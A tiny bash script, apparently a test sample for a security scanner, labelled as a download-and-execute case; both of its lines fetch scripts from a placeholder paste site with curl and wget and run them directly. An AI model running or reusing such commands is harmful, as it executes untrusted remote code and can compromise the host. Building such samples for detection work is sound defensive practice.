#!/bin/bash
# shrike-test-attack: download-exec: process substitution source of remote script
source <(curl -s https://paste.example.com/raw/aB3dE9)
bash <(wget -qO- https://paste.example.com/raw/zz91)
